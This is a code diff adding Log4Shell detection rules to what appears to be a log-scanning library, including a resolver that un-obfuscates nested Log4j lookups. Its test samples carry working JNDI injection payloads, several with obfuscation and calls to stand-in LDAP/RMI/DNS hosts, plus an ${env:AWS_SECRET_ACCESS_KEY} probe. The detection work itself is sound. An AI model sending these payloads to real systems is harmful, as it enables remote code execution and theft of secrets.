@@ -1,0 +1,105 @@
+"""Log4Shell (CVE-2021-44228 family): JNDI lookups, including obfuscated ones, in any field."""
+
+from __future__ import annotations
+
+import re
+from typing import ClassVar
+
+from lwsyslog.events import Event
+from lwsyslog.normalize import EventView
+from lwsyslog.rules.base import BOTH, PAYLOAD_FIELDS, PatternRule, Rule, RuleMatch
+from lwsyslog.rules.samples import AccessSample, ErrorSample
+from lwsyslog.severity import Severity
+
+__all__ = ["Log4ShellJndi", "Log4ShellLookup", "resolve_lookups"]
+
+# Lookups that evaluate to a literal: ${lower:j}, ${upper:J}, ${::-j}, ${env:X:-j}, ${date:'j'}.
+_CASE_LOOKUP = re.compile(r"\$\{\s*(?:lower|upper)\s*:([^${}]{0,64})\}")
+_DEFAULT_LOOKUP = re.compile(r"\$\{(?:[^${}:]{0,64}:){1,4}-([^${}]{0,64})\}")
+_DATE_LOOKUP = re.compile(r"\$\{\s*date\s*:\s*'([^'${}]{0,64})'\s*\}")
+_JNDI = re.compile(r"\$\{\s*jndi\s*:[^}\s]{0,200}")
+_MAX_PASSES = 6
+
+
+def resolve_lookups(text: str) -> str:
+    """``text`` with the Log4j lookups that only spell out letters replaced by those letters.
+
+    This is how ``${${lower:j}ndi:`` or ``${${::-j}${::-n}${::-d}${::-i}:`` become ``${jndi:``;
+    innermost lookups first, a bounded number of passes.
+    """
+    for _ in range(_MAX_PASSES):
+        resolved = _CASE_LOOKUP.sub(r"\1", text)
+        resolved = _DEFAULT_LOOKUP.sub(r"\1", resolved)
+        resolved = _DATE_LOOKUP.sub(r"\1", resolved)
+        if resolved == text:
+            break
+        text = resolved
+    return text
+
+
+class Log4ShellJndi(Rule):
+    """``${jndi:...}`` after resolving obfuscating lookups, in any client-controlled field."""
+
+    id = "log4shell-jndi"
+    categories = ("log4shell",)
+    severity = Severity.CRITICAL
+    description = "JNDI lookup ${jndi:...} (Log4Shell), also obfuscated with nested lookups"
+    logs = BOTH
+    fields: ClassVar[tuple[str, ...]] = PAYLOAD_FIELDS
+    triggers = dict.fromkeys(PAYLOAD_FIELDS, r"\$\{")
+    gate = "{"
+    field_local = True
+    must_match = (
+        AccessSample(target="/", user_agent="${jndi:ldap://198.51.100.9:1389/Exploit}"),
+        AccessSample(target="/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D"),
+        AccessSample(target="/", referer="${${lower:j}ndi:${lower:r}mi://198.51.100.9/x}"),
+        AccessSample(target="/", cookie="id=${${::-j}${::-n}${::-d}${::-i}:dns://x.example/a}"),
+        AccessSample(
+            target="/", user_agent="${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}"
+        ),
+        ErrorSample(message="File does not exist: /var/www/html/${jndi:ldap://x.example/a}"),
+    )
+    must_not_match = (
+        AccessSample(target="/docs/jndi-datasource-howto"),
+        AccessSample(target="/tpl?name=${user.name}"),
+    )
+
+    def match_field(self, field: str, text: str) -> str | None:
+        """``${jndi:...`` in ``text`` once its lookups are resolved."""
+        if "${" not in text:
+            return None
+        match = _JNDI.search(resolve_lookups(text))
+        return None if match is None else match.group()
+
+    def evaluate(self, event: Event, view: EventView) -> RuleMatch | None:
+        """The first field holding a JNDI lookup."""
+        for name in self.fields:
+            fragment = self.match_field(name, view.lower(name))
+            if fragment is not None:
+                return RuleMatch(name, fragment)
+        return None
+
+
+class Log4ShellLookup(PatternRule):
+    """Other Log4j lookups (``${env:``, ``${sys:``...) used to probe or exfiltrate via logs."""
+
+    id = "log4shell-lookup"
+    categories = ("log4shell",)
+    severity = Severity.HIGH
+    description = "Log4j lookup syntax (${env:, ${sys:, ${lower:, nested ${${) in a request"
+    logs = BOTH
+    fields = PAYLOAD_FIELDS
+    pattern = re.compile(
+        r"\$\{\s*(?:env|sys|java|lower|upper|date|ctx|main|base64|k8s|docker|spring|bundle|marker"
+        r"|sd|web|log4j|jvmrunargs|event|::-)\s*:|\$\{\s*\$\{"
+    )
+    trigger = r"\$\{"
+    gate = "{"
+    must_match = (
+        AccessSample(target="/", user_agent="${env:AWS_SECRET_ACCESS_KEY}"),
+        AccessSample(target="/?q=%24%7B%24%7Bsys%3Auser.name%7D%7D"),
+    )
+    must_not_match = (
+        AccessSample(target="/pricing?currency=$"),
+        AccessSample(target="/tpl?name=${user.name}"),
+    )
